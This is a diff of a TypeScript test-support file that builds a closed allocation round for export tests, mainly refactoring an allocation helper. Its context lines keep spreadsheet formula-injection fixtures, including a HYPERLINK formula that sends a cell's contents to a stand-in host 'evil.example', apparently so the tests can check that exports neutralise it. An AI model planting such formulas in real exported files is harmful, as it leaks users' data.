@@ -1,12 +1,11 @@
 // Test support for the exports tests (not loaded by the app): a round after its close, built
 // through the real allocation endpoint and the ledger's own functions.
-import request from 'supertest';
 import { sql } from 'drizzle-orm';
 import { expect } from 'vitest';
 import { majorUnits } from '@cagnotte/shared';
 import type { TestContext } from '../../../test/harness.ts';
 import type { Member } from '../../../test/given.ts';
-import { grant, returnBucketAllocations } from '../allocations/ledger.ts';
+import { grant, returnBucketAllocations } from '../ledger/index.ts';
 
 export const INJECTED_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
 export const INJECTED_NAME = '-Bob';
@@ -43,15 +42,12 @@ export async function closedRound(t: TestContext, options: { seed?: number; allo
   const [b0, b1, b2, b3, b4, b5, b6, b7] = buckets as [typeof buckets[number], typeof buckets[number], typeof buckets[number], typeof buckets[number], typeof buckets[number], typeof buckets[number], typeof buckets[number], typeof buckets[number]];
   const m = (i: number) => members[i] as Member;
 
-  const allocate = (by: Member, bucketId: string, amountCents: number, memberId?: string) =>
-    request(t.app.server).put(`/api/buckets/${bucketId}/allocation`).set(t.given.authFor(by)).send({ amountCents, memberId });
-
   // Targeted first, while every allowance is whole.
-  await allocate(admin, b4.id, 3_333, m(0).membershipId).expect(200);
-  await allocate(m(1), b4.id, 2_000).expect(200);
-  await allocate(m(2), b5.id, 1_505).expect(200);
-  await allocate(m(3), b6.id, 4_000).expect(200);
-  await allocate(m(4), b6.id, 1_234).expect(200);
+  await t.allocate(admin, b4.id, 3_333, { memberId: m(0).membershipId }).expect(200);
+  await t.allocate(m(1), b4.id, 2_000).expect(200);
+  await t.allocate(m(2), b5.id, 1_505).expect(200);
+  await t.allocate(m(3), b6.id, 4_000).expect(200);
+  await t.allocate(m(4), b6.id, 1_234).expect(200);
   await t.db.transaction((tx) =>
     grant(tx, { round, membershipId: m(0).membershipId, deltaCents: 10_050, enteredBy: admin.membershipId, reason: INJECTED_REASON }),
   );
@@ -62,7 +58,7 @@ export async function closedRound(t: TestContext, options: { seed?: number; allo
     const member = m(Math.floor(rand() * members.length));
     const bucket = targets[Math.floor(rand() * targets.length)]!;
     const amount = rand() < 0.1 ? 0 : 1 + Math.floor(rand() * 12_000);
-    const res = await allocate(member, bucket.id, amount);
+    const res = await t.allocate(member, bucket.id, amount);
     expect([200, 409]).toContain(res.status);
   }
 
